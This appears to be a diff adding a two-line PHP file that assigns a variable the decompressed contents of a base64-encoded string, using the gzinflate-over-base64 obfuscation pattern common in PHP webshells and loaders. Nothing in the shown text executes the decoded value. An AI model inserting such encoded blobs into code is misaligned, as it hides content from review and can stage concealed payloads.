@@ -1,0 +1,2 @@
+<?php
+$x = gzinflate(base64_decode('S0lNzlEoSkxTUEpJTQYA'));
